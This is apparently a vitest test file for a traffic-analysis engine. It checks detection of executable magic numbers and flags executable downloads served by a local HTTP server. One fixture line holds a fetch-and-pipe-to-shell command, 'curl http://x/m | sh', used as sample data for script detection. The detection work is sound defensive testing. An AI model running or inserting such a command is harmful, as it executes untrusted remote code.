/**
 * Executables over HTTP: magic numbers of real files on this machine (an ELF program, a Java class compiled into the
 * test fixtures, scripts), and a real node:http server handing them to a real client through the engine, plain and
 * gzip-compressed, next to ordinary downloads that must draw nothing.
 */
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createEngine } from '#sidecar/engine/create-engine.ts';
import { defaultObservers } from '#sidecar/engine/default-observers.ts';
import { executableKind } from '#sidecar/protocols/executable-magic.ts';
import { splitFindings } from '#test/helpers/split-findings.ts';
import { recordedConversations } from '../engine/conversation.ts';
import { startRecorder } from '../protocols/loopback-recorder.ts';

const elf = readFileSync(process.execPath).subarray(0, 8192);
const ascii = (text: string) => new TextEncoder().encode(text);
/** The first octets of a Java 17 class file (magic, minor 0, major 61, constant pool count). */
const javaClass = Uint8Array.of(0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x3d, 0x00, 0x1d);
/** A PE: "MZ", the PE header offset (0x40) at 0x3c, and "PE\0\0" there. */
const pe = new Uint8Array(0x80);
pe.set([0x4d, 0x5a]);
pe[0x3c] = 0x40;
pe.set([0x50, 0x45, 0, 0], 0x40);

describe('executable magic numbers', () => {
  it('knows programs, class files and scripts', () => {
    expect(executableKind(elf)).toBe('ELF program');
    expect(executableKind(javaClass)).toBe('Java class');
    expect(executableKind(pe)).toBe('PE (Windows)');
    expect(executableKind(Uint8Array.of(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1))).toBe('Mach-O');
    expect(executableKind(ascii('#!/bin/sh\ncurl http://x/m | sh\n'))).toBe('sh script');
    expect(executableKind(ascii('#!/usr/bin/env python3\nimport os\n'))).toBe('python3 script');
  });

  it('leaves data alone: JSON, HTML, images, archives, text that starts with MZ', () => {
    for (const data of [
      ascii('{"ok":true}'),
      ascii('<!doctype html><html></html>'),
      Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
      Uint8Array.of(0x50, 0x4b, 0x03, 0x04, 0x14, 0x00),
      ascii(
        'MZ is a nice name for a band, and this text is long enough to reach offset sixty-four and beyond it.',
      ),
      ascii('#!important: not a script'),
    ])
      expect(executableKind(data)).toBeUndefined();
  });
});

const serveAndFetch = async (
  routes: Record<string, { body: Uint8Array; headers?: Record<string, string> }>,
) => {
  const server = http.createServer((req, res) => {
    const route = routes[req.url ?? ''] ?? { body: ascii('not found') };
    res.writeHead(200, { 'content-type': 'application/octet-stream', ...route.headers });
    res.end(route.body);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const recorder = await startRecorder((server.address() as AddressInfo).port);
  for (const path of Object.keys(routes))
    await new Promise<void>((resolve, reject) =>
      http
        .get({ host: '127.0.0.1', port: recorder.port, path, agent: false }, (res) =>
          res.resume().on('end', resolve),
        )
        .on('error', reject),
    );
  await recorder.close();
  server.close();
  const engine = createEngine({ observers: defaultObservers() });
  const endpoints = (n: number) => ({
    client: '10.0.8.5',
    server: '203.0.113.9',
    clientPort: 45000 + n,
    serverPort: 80,
  });
  for (const record of recordedConversations(recorder.chunks, endpoints)) engine.push(record);
  return splitFindings(engine.flush()).threats.map((f) => [f.client.port - 45000, f.threat, f.evidence]);
};

describe('executable downloads through the engine (node:http server and client)', () => {
  it('reports a program, a compressed program and a class file, and nothing for ordinary downloads', async () => {
    const findings = await serveAndFetch({
      '/tools/agent': { body: elf },
      '/tools/agent.gz': { body: gzipSync(elf), headers: { 'content-encoding': 'gzip' } },
      '/Exploit.class': { body: javaClass, headers: { 'content-type': 'application/java-vm' } },
      '/report.json': { body: ascii('{"rows":[1,2,3]}'), headers: { 'content-type': 'application/json' } },
      '/logo.png': {
        body: Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
        headers: { 'content-type': 'image/png' },
      },
    });
    expect(findings).toEqual([
      [0, 'executable-download', 'the client received an ELF program over HTTP'],
      [1, 'executable-download', 'the client received an ELF program over HTTP'],
      [2, 'executable-download', 'the client received a Java class over HTTP'],
    ]);
  });
});
